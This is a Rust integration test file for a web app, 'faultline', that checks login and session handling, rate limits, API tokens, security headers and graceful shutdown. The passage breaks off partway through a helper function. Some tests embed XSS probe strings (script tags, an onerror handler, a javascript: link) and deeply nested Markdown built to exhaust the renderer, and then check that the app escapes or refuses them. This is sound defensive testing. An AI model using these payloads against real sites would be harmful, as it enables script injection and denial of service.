//! Accounts and hardening, end to end: login and sessions, rate limits,
//! API tokens, escaping, headers, metrics, limits, and a SIGTERM under load.

mod common;

use std::time::{Duration, Instant};

use axum::body::Body;
use axum::http::{HeaderMap, Request, StatusCode, header};
use faultline::config::Config;
use faultline::store::{Origin, Role};
use faultline::web::{self, AppState, Stop};
use http_body_util::BodyExt;
use tower::ServiceExt;

struct Answer {
    status: StatusCode,
    headers: HeaderMap,
    body: String,
}

async fn send(state: &AppState, req: Request<Body>) -> Answer {
    let r = web::app(state.clone()).oneshot(req).await.unwrap();
    let status = r.status();
    let headers = r.headers().clone();
    let bytes = r.into_body().collect().await.unwrap().to_bytes();
    Answer {
        status,
        headers,
        body: String::from_utf8_lossy(&bytes).into_owned(),
    }
}

fn get(uri: &str, cookie: Option<&str>) -> Request<Body> {
    let mut req = Request::get(uri).header(header::HOST, "localhost");
    if let Some(c) = cookie {
        req = req.header(header::COOKIE, c);
    }
    req.body(Body::empty()).unwrap()
}

fn login_request(name: &str, password: &str, cookie: Option<(&str, &str)>) -> Request<Body> {
    let mut req = Request::post("/login")
        .header(header::HOST, "localhost")
        .header(header::ORIGIN, "http://localhost")
        .header(header::CONTENT_TYPE, "application/x-www-form-urlencoded");
    let mut csrf = String::new();
    if let Some((c, token)) = cookie {
        req = req.header(header::COOKIE, c);
        csrf = format!("&csrf_token={token}");
    }
    req.body(Body::from(format!(
        "name={name}&password={password}&next=%2Fplaybooks{csrf}"
    )))
    .unwrap()
}

/// The CSRF token of the session behind a `name=value` cookie.
async fn csrf_of(state: &AppState, cookie: &str) -> String {
    let id = cookie.split_once('=').unwrap().1;
    state
        .kb
        .store()
        .session(&faultline::accounts::hash_secret(id))
        .await
        .unwrap()
        .unwrap()
        .csrf_token
}

/// The `name=value` part of the session cookie a response sets.
fn set_cookie(a: &Answer) -> String {
    let v = a.headers[header::SET_COOKIE].to_str().unwrap();
    v.split(';').next().unwrap().to_owned()
}

const PASSWORD: &str = "correct-horse-battery";

async fn add_user(state: &AppState, name: &str, role: Role) {
    faultline::accounts::add_user(state.kb.store(), name, PASSWORD, role, "test")
        .await
        .unwrap();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn login_sets_a_rotated_httponly_session_and_logout_ends_it() {
    let t = common::app_with(Config::default()).await;
    add_user(&t.state, "alice", Role::Editor).await;

    // Wrong password: 401 and the form again, no cookie.
    let a = send(&t.state, login_request("alice", "nope-nope-nope", None)).await;
    assert_eq!(a.status, StatusCode::UNAUTHORIZED);
    assert!(!a.headers.contains_key(header::SET_COOKIE));
    assert!(a.body.contains("Wrong name or password"));

    let a = send(&t.state, login_request("alice", PASSWORD, None)).await;
    assert_eq!(a.status, StatusCode::SEE_OTHER, "{}", a.body);
    assert_eq!(a.headers[header::LOCATION], "/playbooks");
    let raw = a.headers[header::SET_COOKIE].to_str().unwrap().to_owned();
    assert!(
        raw.contains("HttpOnly") && raw.contains("SameSite=Lax"),
        "{raw}"
    );
    assert!(!raw.contains("Secure"), "plain HTTP: no Secure flag: {raw}");
    let first = set_cookie(&a);

    // Logged in: the page shows who, with a logout button.
    let page = send(&t.state, get("/", Some(&first))).await;
    assert_eq!(page.status, StatusCode::OK);
    assert!(
        page.body.contains("class=\"user-indicator\""),
        "{}",
        page.body
    );
    assert!(page.body.contains("alice") && page.body.contains("editor"));
    assert!(page.body.contains("action=\"/logout\""));

    // Logging in again with the old cookie replaces that session.
    // (A logged-in browser's login form carries the session's CSRF token.)
    let token = csrf_of(&t.state, &first).await;
    let a = send(
        &t.state,
        login_request("alice", PASSWORD, Some((&first, &token))),
    )
    .await;
    let second = set_cookie(&a);
    assert_ne!(first, second);
    assert_eq!(
        send(&t.state, get("/", Some(&first))).await.status,
        StatusCode::FOUND,
        "the old session id is dead after login"
    );

    // Behind a TLS proxy the cookie is Secure.
    let mut req = login_request("alice", PASSWORD, None);
    req.headers_mut()
        .insert("x-forwarded-proto", "https".parse().unwrap());
    let a = send(&t.state, req).await;
    assert!(
        a.headers[header::SET_COOKIE]
            .to_str()
            .unwrap()
            .contains("Secure")
    );

    // Logout needs the CSRF token, then ends the session.
    let session = t
        .state
        .kb
        .store()
        .session(&faultline::accounts::hash_secret(
            second.split_once('=').unwrap().1,
        ))
        .await
        .unwrap()
        .unwrap();
    let logout = Request::post("/logout")
        .header(header::HOST, "localhost")
        .header(header::ORIGIN, "http://localhost")
        .header(header::COOKIE, &second)
        .header(header::CONTENT_TYPE, "application/x-www-form-urlencoded")
        .body(Body::from(format!("csrf_token={}", session.csrf_token)))
        .unwrap();
    let a = send(&t.state, logout).await;
    assert_eq!(a.status, StatusCode::SEE_OTHER);
    assert!(
        a.headers[header::SET_COOKIE]
            .to_str()
            .unwrap()
            .contains("Max-Age=0")
    );
    assert_eq!(
        send(&t.state, get("/", Some(&second))).await.status,
        StatusCode::FOUND
    );

    // The audit log saw it all.
    let audit = t.state.kb.store().recent_audit(20).await.unwrap();
    let actions: Vec<_> = audit.iter().map(|a| a.action.as_str()).collect();
    for action in ["user.create", "login.fail", "login.ok", "logout"] {
        assert!(actions.contains(&action), "{actions:?}");
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn login_burst_gets_429_then_the_right_password_works_after_retry_after() {
    let mut config = Config::default();
    config.security.login_account_burst = 3;
    config.security.login_account_refill_s = 2;
    let t = common::app_with(config).await;
    add_user(&t.state, "bob", Role::Viewer).await;

    for _ in 0..3 {
        let a = send(&t.state, login_request("bob", "guess-guess-guess", None)).await;
        assert_eq!(a.status, StatusCode::UNAUTHORIZED);
    }
    // The burst is spent: even the right password waits (no oracle), 429.
    let a = send(&t.state, login_request("bob", PASSWORD, None)).await;
    assert_eq!(a.status, StatusCode::TOO_MANY_REQUESTS);
    let wait: u64 = a.headers[header::RETRY_AFTER]
        .to_str()
        .unwrap()
        .parse()
        .unwrap();
    assert!((1..=2).contains(&wait), "Retry-After {wait}");
    assert!(a.body.contains("Too many login attempts"));
    // Another account from the same address is not held up.
    let a = send(&t.state, login_request("carol", "whatever-at-all", None)).await;
    assert_eq!(a.status, StatusCode::UNAUTHORIZED);

    // Slowed down, never locked out: after the wait, the password works.
    tokio::time::sleep(Duration::from_secs(wait) + Duration::from_millis(100)).await;
    let a = send(&t.state, login_request("bob", PASSWORD, None)).await;
    assert_eq!(a.status, StatusCode::SEE_OTHER, "{}", a.body);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn login_is_limited_per_address_too() {
    let mut config = Config::default();
    config.security.login_address_burst = 2;
    config.security.login_address_refill_s = 60;
    let t = common::app_with(config).await;
    // oneshot requests have no peer address: all share the "unknown" bucket.
    for name in ["u1", "u2"] {
        let a = send(&t.state, login_request(name, "password-password", None)).await;
        assert_eq!(a.status, StatusCode::UNAUTHORIZED);
    }
    let a = send(&t.state, login_request("u3", "password-password", None)).await;
    assert_eq!(a.status, StatusCode::TOO_MANY_REQUESTS);
    assert!(a.headers.contains_key(header::RETRY_AFTER));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn sessions_end_when_idle_or_old_and_when_the_user_is_disabled() {
    let mut config = Config::default();
    config.security.session_idle_s = 1;
    let t = common::app_with(config).await;
    let idle = common::session_for(&t.state, "idle", Role::Viewer).await;
    assert_eq!(
        send(&t.state, get("/", Some(&idle.cookie))).await.status,
        StatusCode::OK
    );
    tokio::time::sleep(Duration::from_millis(2100)).await;
    assert_eq!(
        send(&t.state, get("/", Some(&idle.cookie))).await.status,
        StatusCode::FOUND,
        "idle too long"
    );

    let mut config = Config::default();
    config.security.session_absolute_s = 1;
    let t = common::app_with(config).await;
    let old = common::session_for(&t.state, "old", Role::Viewer).await;
    assert_eq!(
        send(&t.state, get("/", Some(&old.cookie))).await.status,
        StatusCode::OK
    );
    tokio::time::sleep(Duration::from_millis(2100)).await;
    assert_eq!(
        send(&t.state, get("/", Some(&old.cookie))).await.status,
        StatusCode::FOUND,
        "older than the absolute limit"
    );

    let dave = common::session_for(&t.state, "dave", Role::Responder).await;
    t.state
        .kb
        .store()
        .update_user(
            "dave",
            faultline::store::UserChange {
                disabled: Some(true),
                ..Default::default()
            },
            "test",
        )
        .await
        .unwrap();
    assert_eq!(
        send(&t.state, get("/", Some(&dave.cookie))).await.status,
        StatusCode::FOUND
    );
}

#[tokio::test]
async fn api_tokens_work_as_bearer_until_revoked() {
    let t = common::app_with(Config::default()).await;
    let store = t.state.kb.store();
    let (token, record) = faultline::accounts::add_api_token(store, "script", Role::Viewer, "test")
        .await
        .unwrap();
    assert!(token.starts_with("flt_"));
    let bearer = |token: &str| {
        Request::get("/api/v1/playbooks")
            .header(header::AUTHORIZATION, format!("Bearer {token}"))
            .body(Body::empty())
            .unwrap()
    };
    assert_eq!(send(&t.state, bearer(&token)).await.status, StatusCode::OK);
    let listed = store.list_api_tokens().await.unwrap();
    assert!(listed[0].last_used_at.is_some(), "last use recorded");
    assert_ne!(listed[0].token_hash, token, "only the hash is stored");

    // A wrong token is 401 with a challenge, not a fallback to anonymous.
    let a = send(&t.state, bearer("flt_0000")).await;
    assert_eq!(a.status, StatusCode::UNAUTHORIZED);
    assert_eq!(a.headers[header::WWW_AUTHENTICATE], "Bearer");

    store.revoke_api_token(record.id, "test").await.unwrap();
    assert_eq!(
        send(&t.state, bearer(&token)).await.status,
        StatusCode::UNAUTHORIZED
    );
}

#[tokio::test]
async fn xss_payloads_in_editable_fields_come_back_escaped() {
    let t = common::app().await;
    let payload = "<script>alert(1)</script><img src=x onerror=alert(2)>";
    let source = format!(
        "+++\nid = \"xss-probe\"\ntitle = \"Probe {payload}\"\nalert = \"alert {payload}\"\n\
         tags = [\"xss\"]\nlayer = \"application\"\n+++\n## Symptoms\nText {payload}\n\n\
         ## Investigation\n1. Run `{payload}`\n\n## Root cause\nA [link](javascript:alert(3)).\n\n\
         ## Fix\nFix.\n\n## Prevention\nPrevent.\n"
    );
    t.state
        .kb
        .save("xss.md", &source, Origin::Edit, Some("mallory"), None)
        .await
        .unwrap();
    for uri in ["/", "/playbooks", "/playbooks/xss-probe", "/search?q=probe"] {
        let a = send(&t.state, get(uri, None)).await;
        assert_eq!(a.status, StatusCode::OK, "{uri}");
        assert!(a.body.contains("Probe"), "{uri} shows the playbook");
        assert!(!a.body.contains("<script>alert"), "{uri}: raw script");
        assert!(!a.body.contains("<img src=x"), "{uri}: raw img");
        assert!(!a.body.contains("javascript:"), "{uri}: javascript link");
        assert!(a.body.contains("&lt;script&gt;") || a.body.contains("&#60;script"));
        assert!(a.headers.contains_key(header::CONTENT_SECURITY_POLICY));
    }

    // Typed-in login names reach the audit log shown on the admin page.
    let a = send(
        &t.state,
        login_request("%3Cscript%3Ealert(4)%3C%2Fscript%3E", "x", None),
    )
    .await;
    assert_eq!(a.status, StatusCode::UNAUTHORIZED);
    assert!(!a.body.contains("<script>alert(4)"), "echoed name escaped");
    let admin = common::session_for(&t.state, "root", Role::Admin).await;
    let a = send(&t.state, get("/admin", Some(&admin.cookie))).await;
    assert_eq!(a.status, StatusCode::OK);
    assert!(a.body.contains("login.fail"));
    assert!(!a.body.contains("<script>alert(4)"), "audit line escaped");
}

#[tokio::test]
async fn every_page_has_the_strict_headers() {
    let t = common::app().await;
    for uri in ["/", "/login", "/lessons", "/nowhere", "/playbooks/nothing"] {
        let a = send(&t.state, get(uri, None)).await;
        let csp = a.headers[header::CONTENT_SECURITY_POLICY].to_str().unwrap();
        assert!(csp.contains("default-src 'self'"), "{uri}: {csp}");
        assert!(csp.contains("frame-ancestors 'none'"), "{uri}");
        assert!(!csp.contains("unsafe-inline"), "{uri}");
        assert_eq!(a.headers[header::X_CONTENT_TYPE_OPTIONS], "nosniff");
        assert!(a.headers.contains_key(header::REFERRER_POLICY));
        assert!(a.headers.contains_key("x-request-id"), "{uri}: request id");
    }
}

#[tokio::test]
async fn metrics_count_requests_by_route_and_status() {
    let t = common::app().await;
    send(&t.state, get("/playbooks/close-wait-leak", None)).await;
    send(&t.state, get("/playbooks/no-such", None)).await;
    let mut req = get("/healthz", None);
    req.headers_mut()
        .insert("x-request-id", "from-proxy-1".parse().unwrap());
    let a = send(&t.state, req).await;
    assert_eq!(
        a.headers["x-request-id"], "from-proxy-1",
        "kept from a proxy"
    );

    let a = send(&t.state, get("/metrics", None)).await;
    assert_eq!(a.status, StatusCode::OK);
    for line in [
        "faultline_http_requests_total{route=\"/playbooks/{id}\",method=\"GET\",status=\"200\"} 1",
        "faultline_http_requests_total{route=\"/playbooks/{id}\",method=\"GET\",status=\"404\"} 1",
        "faultline_http_request_duration_seconds_count{route=\"/playbooks/{id}\"} 2",
        "# TYPE faultline_http_request_duration_seconds histogram",
        "# TYPE faultline_store_errors_total counter",
    ] {
        assert!(a.body.contains(line), "missing {line} in\n{}", a.body);
    }
}

#[tokio::test]
async fn forms_have_a_small_body_limit() {
    let t = common::app().await;
    let big = "x".repeat(32 * 1024);
    let req = Request::post("/login")
        .header(header::HOST, "localhost")
        .header(header::CONTENT_TYPE, "application/x-www-form-urlencoded")
        .body(Body::from(format!("name=a&password={big}")))
        .unwrap();
    assert_eq!(
        send(&t.state, req).await.status,
        StatusCode::PAYLOAD_TOO_LARGE
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn admin_page_manages_users_and_cannot_lock_out_its_admin() {
    let t = common::app().await;
    let admin = common::session_for(&t.state, "root", Role::Admin).await;
    let post = |uri: &str, body: String| {
        Request::post(uri)
            .header(header::HOST, "localhost")
            .header(header::ORIGIN, "http://localhost")
            .header(header::COOKIE, &admin.cookie)
            .header(header::CONTENT_TYPE, "application/x-www-form-urlencoded")
            .body(Body::from(format!("{body}&csrf_token={}", admin.csrf)))
            .unwrap()
    };
    let a = send(
        &t.state,
        post(
            "/admin/users",
            format!("name=erin&password={PASSWORD}&role=responder"),
        ),
    )
    .await;
    assert_eq!(a.status, StatusCode::SEE_OTHER, "{}", a.body);
    let a = send(
        &t.state,
        post(
            "/admin/users",
            format!("name=erin&password={PASSWORD}&role=viewer"),
        ),
    )
    .await;
    assert_eq!(a.status, StatusCode::CONFLICT);
    let a = send(
        &t.state,
        post(
            "/admin/users",
            "name=frank&password=short&role=viewer".into(),
        ),
    )
    .await;
    assert_eq!(a.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(a.body.contains("too short"));
    let a = send(
        &t.state,
        post("/admin/users/erin", "action=role&role=editor".into()),
    )
    .await;
    assert_eq!(a.status, StatusCode::SEE_OTHER);
    let a = send(&t.state, post("/admin/users/erin", "action=disable".into())).await;
    assert_eq!(a.status, StatusCode::SEE_OTHER);
    let (erin, _) = t
        .state
        .kb
        .store()
        .user_by_name("erin")
        .await
        .unwrap()
        .unwrap();
    assert_eq!((erin.role, erin.disabled), (Role::Editor, true));
    let a = send(&t.state, post("/admin/users/root", "action=disable".into())).await;
    assert_eq!(a.status, StatusCode::UNPROCESSABLE_ENTITY);

    let page = send(&t.state, get("/admin", Some(&admin.cookie))).await;
    assert!(page.body.contains("user.update") && page.body.contains("erin"));
}

#[tokio::test]
async fn user_and_token_commands_store_hashes_and_print_the_token_once() {
    let dir = tempfile::tempdir().unwrap();
    let bin = env!("CARGO_BIN_EXE_faultline");
    let out = std::process::Command::new(bin)
        .args(["--data-dir"])
        .arg(dir.path())
        .args(["user", "add", "ops-admin", "--role", "admin"])
        .env("FAULTLINE_PASSWORD", PASSWORD)
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let out = std::process::Command::new(bin)
        .args(["--data-dir"])
        .arg(dir.path())
        .args(["token", "add", "nightly-export", "--role", "viewer"])
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let token = String::from_utf8(out.stdout).unwrap().trim().to_owned();
    assert!(token.starts_with("flt_") && token.len() == 68, "{token}");

    let store = faultline::store::connect(&faultline::store::sqlite_url(dir.path()))
        .await
        .unwrap();
    let (user, hash) = store.user_by_name("ops-admin").await.unwrap().unwrap();
    assert_eq!(user.role, Role::Admin);
    assert!(hash.starts_with("$argon2id$"));
    assert!(faultline::accounts::verify_password(PASSWORD.into(), Some(hash)).await);
    let found = faultline::accounts::find_api_token(&store, &token)
        .await
        .unwrap()
        .unwrap();
    assert_eq!(
        (found.name.as_str(), found.role),
        ("nightly-export", Role::Viewer)
    );
    store.close().await;
}

// ---- a real server ---------------------------------------------------------

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn overload_is_answered_503_at_once() {
    let mut config = common::anonymous_read_config();
    config.security.max_concurrent_requests = 1;
    config.security.login_address_burst = 1000;
    config.security.login_account_burst = 1000;
    let (addr, _t, stop, handle) = common::serve_in_process(config).await;
    let client = reqwest::Client::new();
    // Logins hash a password (tens of milliseconds): a burst overlaps.
    let mut tasks = Vec::new();
    for i in 0..12 {
        let client = client.clone();
        tasks.push(tokio::spawn(async move {
            client
                .post(format!("http://{addr}/login"))
                .header("origin", format!("http://{addr}"))
                .form(&[
                    ("name", format!("n{i}")),
                    ("password", "password-password".into()),
                ])
                .send()
                .await
                .unwrap()
        }));
    }
    let mut shed = 0;
    for task in tasks {
        let r = task.await.unwrap();
        if r.status() == StatusCode::SERVICE_UNAVAILABLE {
            assert_eq!(r.headers()[header::RETRY_AFTER], "1");
            shed += 1;
        } else {
            assert_eq!(r.status(), StatusCode::UNAUTHORIZED);
        }
    }
    assert!(shed > 0, "no request was shed");
    stop.send(Stop::Interrupt).unwrap();
    handle.await.unwrap();
}

/// SIGTERM while account writes are in flight: every write that got a 2xx
/// (or the 303 after a form) is in the database afterwards, and the server
/// is gone within drain delay + grace.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn sigterm_during_writes_keeps_every_acknowledged_one() {
    let config = Config {
        drain_delay_s: 1,
        shutdown_grace_s: 5,
        ..Config::default()
    };
    let (addr, t, stop, handle) = common::serve_in_process(config.clone()).await;
    let admin = common::session_for(&t.state, "root", Role::Admin).await;
    let client = reqwest::Client::builder()
        .timeout(Duration::from_secs(10))
        .redirect(reqwest::redirect::Policy::none())
        .build()
        .unwrap();

    let mut tasks = Vec::new();
    for i in 0..40 {
        let client = client.clone();
        let admin = admin.clone();
        tasks.push(tokio::spawn(async move {
            tokio::time::sleep(Duration::from_millis(i * 50)).await;
            let name = format!("user{i:02}");
            let sent = client
                .post(format!("http://{addr}/admin/users"))
                .header("origin", format!("http://{addr}"))
                .header("cookie", &admin.cookie)
                .form(&[
                    ("name", name.as_str()),
                    ("password", PASSWORD),
                    ("role", "viewer"),
                    ("csrf_token", admin.csrf.as_str()),
                ])
                .send()
                .await;
            (name, sent.map(|r| r.status()).ok())
        }));
    }
    tokio::time::sleep(Duration::from_millis(700)).await;
    let stopped_at = Instant::now();
    stop.send(Stop::Terminate).unwrap();
    tokio::time::timeout(Duration::from_secs(10), handle)
        .await
        .expect("the server stops")
        .unwrap();
    let took = stopped_at.elapsed();
    assert!(
        took < Duration::from_secs(config.drain_delay_s + config.shutdown_grace_s),
        "stopped after {took:?}"
    );

    let mut acknowledged = Vec::new();
    for task in tasks {
        let (name, status) = task.await.unwrap();
        if let Some(status) = status {
            assert!(
                status == StatusCode::SEE_OTHER || status.is_server_error(),
                "{name}: {status}"
            );
            if status == StatusCode::SEE_OTHER {
                acknowledged.push(name);
            }
        }
    }
    assert!(
        acknowledged.len() >= 5,
        "only {} writes got through",
        acknowledged.len()
    );
    // Reopen the database from disk, as the next process would.
    t.state.kb.store().close().await;
    let store = faultline::store::connect(&faultline::store::sqlite_url(t.dir.path()))
        .await
        .unwrap();
    let stored: Vec<String> = store
        .list_users()
        .await
        .unwrap()
        .into_iter()
        .map(|u| u.name)
        .collect();
    for name in &acknowledged {
        assert!(
            stored.contains(name),
            "{name} was acknowledged but not stored"
        );
    }
    store.close().await;
}

// ---- the real binary -------------------------------------------------------

/// `faultline serve` gets a real SIGTERM while account writes are in
/// flight: it exits 0 within drain delay + grace, and every write that was
/// acknowledged is in the database when it is opened again.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn sigterm_to_the_process_drains_and_keeps_acknowledged_writes() {
    let dir = tempfile::tempdir().unwrap();
    let bin = env!("CARGO_BIN_EXE_faultline");
    let added = std::process::Command::new(bin)
        .arg("--data-dir")
        .arg(dir.path())
        .args(["user", "add", "root", "--role", "admin"])
        .env("FAULTLINE_PASSWORD", PASSWORD)
        .output()
        .unwrap();
    assert!(added.status.success());
    let port = std::net::TcpListener::bind("127.0.0.1:0")
        .unwrap()
        .local_addr()
        .unwrap()
        .port();
    let mut child = std::process::Command::new(bin)
        .arg("--data-dir")
        .arg(dir.path())
        .args(["serve", "--listen", &format!("127.0.0.1:{port}")])
        .env("FAULTLINE_DRAIN_DELAY_S", "1")
        .env("FAULTLINE_SHUTDOWN_GRACE_S", "5")
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::null())
        .spawn()
        .unwrap();
    let base = format!("http://127.0.0.1:{port}");
    let client = reqwest::Client::builder()
        .timeout(Duration::from_secs(10))
        .redirect(reqwest::redirect::Policy::none())
        .build()
        .unwrap();
    let deadline = Instant::now() + Duration::from_secs(20);
    while client.get(format!("{base}/healthz")).send().await.is_err() {
        assert!(Instant::now() < deadline, "the server did not start");
        tokio::time::sleep(Duration::from_millis(100)).await;
    }

    let (cookie, csrf) = common::http_login(&client, &base, "root", PASSWORD, "/admin").await;

    let mut tasks = Vec::new();
    for i in 0..40u64 {
        let (client, base, cookie, csrf) =
            (client.clone(), base.clone(), cookie.clone(), csrf.clone());
        tasks.push(tokio::spawn(async move {
            tokio::time::sleep(Duration::from_millis(i * 40)).await;
            let name = format!("user{i:02}");
            let sent = client
                .post(format!("{base}/admin/users"))
                .header("origin", &base)
                .header("cookie", &cookie)
                .form(&[
                    ("name", name.as_str()),
                    ("password", PASSWORD),
                    ("role", "viewer"),
                    ("csrf_token", csrf.as_str()),
                ])
                .send()
                .await;
            (name, sent.map(|r| r.status()).ok())
        }));
    }
    tokio::time::sleep(Duration::from_millis(500)).await;
    let killed = std::process::Command::new("kill")
        .args(["-TERM", &child.id().to_string()])
        .status()
        .unwrap();
    assert!(killed.success());
    let signalled = Instant::now();
    let status = loop {
        if let Some(status) = child.try_wait().unwrap() {
            break status;
        }
        if signalled.elapsed() > Duration::from_secs(10) {
            let _ = child.kill();
            panic!("still running 10 s after SIGTERM");
        }
        tokio::time::sleep(Duration::from_millis(50)).await;
    };
    let took = signalled.elapsed();
    assert!(status.success(), "exit status {status}");
    assert!(took < Duration::from_secs(1 + 5), "exited after {took:?}");

    let mut acknowledged = Vec::new();
    for task in tasks {
        let (name, status) = task.await.unwrap();
        if status == Some(StatusCode::SEE_OTHER) {
            acknowledged.push(name);
        }
    }
    assert!(
        acknowledged.len() >= 5,
        "only {} writes got through",
        acknowledged.len()
    );
    let store = faultline::store::connect(&faultline::store::sqlite_url(dir.path()))
        .await
        .unwrap();
    let stored: Vec<String> = store
        .list_users()
        .await
        .unwrap()
        .into_iter()
        .map(|u| u.name)
        .collect();
    for name in &acknowledged {
        assert!(
            stored.contains(name),
            "{name} was acknowledged but not stored"
        );
    }
    store.close().await;
}

/// At `max_connections` the server stops accepting: a second client waits
/// (in the kernel's backlog) until the first connection closes.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn connections_past_the_cap_wait_for_a_free_slot() {
    let mut config = common::anonymous_read_config();
    config.security.max_connections = 1;
    let (addr, _t, stop, handle) = common::serve_in_process(config).await;
    let result = tokio::task::spawn_blocking(move || {
        use std::io::{Read, Write};
        let ask = |conn: &mut std::net::TcpStream| -> std::io::Result<String> {
            conn.write_all(b"GET /healthz HTTP/1.1\r\nHost: t\r\n\r\n")?;
            let mut buf = [0u8; 512];
            let n = conn.read(&mut buf)?;
            Ok(String::from_utf8_lossy(&buf[..n]).into_owned())
        };
        let mut first = std::net::TcpStream::connect(addr).unwrap();
        assert!(ask(&mut first).unwrap().starts_with("HTTP/1.1 200"));
        let mut second = std::net::TcpStream::connect(addr).unwrap();
        second
            .set_read_timeout(Some(Duration::from_millis(700)))
            .unwrap();
        let waited = ask(&mut second);
        assert!(waited.is_err(), "served past the cap: {waited:?}");
        drop(first);
        second
            .set_read_timeout(Some(Duration::from_secs(5)))
            .unwrap();
        let mut buf = [0u8; 512];
        let n = second.read(&mut buf).unwrap();
        String::from_utf8_lossy(&buf[..n]).into_owned()
    })
    .await
    .unwrap();
    assert!(result.starts_with("HTTP/1.1 200"), "{result}");
    stop.send(Stop::Interrupt).unwrap();
    handle.await.unwrap();
}

// ---- hostile Markdown ------------------------------------------------------

/// A playbook whose Symptoms hold `body`, and the line `body` starts on.
fn playbook_with(body: &str) -> (String, usize) {
    let head = "+++\nid = \"deep\"\ntitle = \"Deep\"\nalert = \"deep\"\nlayer = \"network\"\n+++\n\
                ## Symptoms\n\nIt starts here:\n";
    let source = format!(
        "{head}{body}\n\n## Investigation\n1. **Look**\n\n## Root cause\nR.\n\n## Fix\nF.\n\n\
         ## Prevention\nP.\n"
    );
    (source, head.lines().count() + 1)
}

/// A postmortem whose Summary holds `body`, and the line `body` starts on.
fn postmortem_with(body: &str) -> (String, usize) {
    let head = "+++\nid = 1\nincident = 1\ntitle = \"Deep\"\nimpact_start = \"2026-11-23T10:00:00Z\"\n\
                +++\n\n## Summary\n\n";
    let rest: String = [
        "Impact",
        "Symptoms",
        "Timeline",
        "Evidence",
        "Investigation",
        "Root cause",
        "Fix",
        "Prevention",
    ]
    .iter()
    .map(|h| format!("\n## {h}\n\nText.\n"))
    .collect();
    (format!("{head}{body}\n{rest}"), head.lines().count() + 1)
}

/// Deeply nested Markdown (100 KB of `>`, 50,000 nested list markers,
/// 20,000 nested HTML tags) sent to both live previews: each answers at
/// once with the line where it nests too deep, and `/healthz` stays fast
/// while they run. (Before the bound, one 100 KB preview took 66.7 s in a
/// release build and several made `/healthz` take 12 s.)
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn hostile_markdown_previews_are_refused_at_their_line_and_healthz_stays_fast() {
    let (addr, t, stop, handle) = common::serve_in_process(Config::default()).await;
    let editor = common::session_for(&t.state, "ed", Role::Editor).await;
    let base = format!("http://{addr}");
    let client = reqwest::Client::builder()
        .timeout(Duration::from_secs(120))
        .build()
        .unwrap();
    let hostile = [
        format!("{}x", ">".repeat(100_000)),
        format!("{}x", "- ".repeat(50_000)),
        format!("{}x", "<div><em>".repeat(10_000)),
        format!("{}x", "> - ".repeat(20_000)),
    ];
    let mut previews = Vec::new();
    for body in &hostile {
        for (path, (source, line)) in [
            ("/api/v1/playbooks/preview", playbook_with(body)),
            ("/api/v1/postmortems/preview", postmortem_with(body)),
        ] {
            let (client, base, editor) = (client.clone(), base.clone(), editor.clone());
            previews.push(tokio::spawn(async move {
                let started = Instant::now();
                let r = client
                    .post(format!("{base}{path}"))
                    .header("cookie", &editor.cookie)
                    .header("x-csrf-token", &editor.csrf)
                    .header("origin", &base)
                    .json(&serde_json::json!({ "source": source }))
                    .send()
                    .await
                    .unwrap();
                let status = r.status();
                let answer: serde_json::Value = r.json().await.unwrap();
                (path, line, status, answer, started.elapsed())
            }));
        }
    }
    // /healthz, asked over and over while the previews are in flight.
    let mut slowest = Duration::ZERO;
    let mut asked = 0;
    while previews.iter().any(|p| !p.is_finished()) || asked < 5 {
        let started = Instant::now();
        let r = client.get(format!("{base}/healthz")).send().await.unwrap();
        assert_eq!(r.status(), StatusCode::OK);
        slowest = slowest.max(started.elapsed());
        asked += 1;
        tokio::time::sleep(Duration::from_millis(20)).await;
    }
    let mut longest = Duration::ZERO;
    for p in previews {
        let (path, line, status, answer, took) = p.await.unwrap();
        assert_eq!(status, StatusCode::OK, "{path}: {answer}");
        assert_eq!(answer["valid"], false, "{path}: {answer}");
        assert_eq!(answer["errors"][0]["line"], line, "{path}: {answer}");
        let message = answer["errors"][0]["message"].as_str().unwrap();
        assert!(message.contains("levels deep"), "{path}: {message}");
        longest = longest.max(took);
    }
    eprintln!("hostile previews: slowest {longest:?}; /healthz slowest {slowest:?} over {asked}");
    assert!(
        longest < Duration::from_secs(10),
        "a preview took {longest:?}"
    );
    assert!(
        slowest < Duration::from_secs(2),
        "/healthz took {slowest:?}"
    );

    // A stored version renders once: the second view comes from the cache.
    let before = t.state.renderer.cached_entries();
    for _ in 0..2 {
        let r = client
            .get(format!("{base}/playbooks/close-wait-leak"))
            .header("cookie", &editor.cookie)
            .send()
            .await
            .unwrap();
        assert_eq!(r.status(), StatusCode::OK);
    }
    assert_eq!(t.state.renderer.cached_entries(), before + 1);
    stop.send(Stop::Interrupt).unwrap();
    handle.await.unwrap();
}

// ---- slow and silent clients -----------------------------------------------

/// A TCP connection to `addr` from the loopback address `from` (the whole
/// of 127.0.0.0/8 is this machine): each address has its own connection cap.
async fn connect_from(from: [u8; 4], addr: std::net::SocketAddr) -> tokio::net::TcpStream {
    let socket = tokio::net::TcpSocket::new_v4().unwrap();
    socket.bind(std::net::SocketAddr::from((from, 0))).unwrap();
    tokio::time::timeout(Duration::from_secs(10), socket.connect(addr))
        .await
        .expect("connect in time")
        .unwrap()
}

/// Reads until the server closes the connection (or `limit` passes): what
/// it sent, and when it closed, counted from `since`.
async fn read_until_closed(
    conn: &mut tokio::net::TcpStream,
    since: Instant,
    limit: Duration,
) -> (String, Option<Duration>) {
    use tokio::io::AsyncReadExt;
    let mut got = Vec::new();
    let mut buf = [0u8; 1024];
    loop {
        let left = limit.saturating_sub(since.elapsed());
        match tokio::time::timeout(left, conn.read(&mut buf)).await {
            Err(_) => return (String::from_utf8_lossy(&got).into_owned(), None),
            Ok(Ok(0)) | Ok(Err(_)) => {
                return (
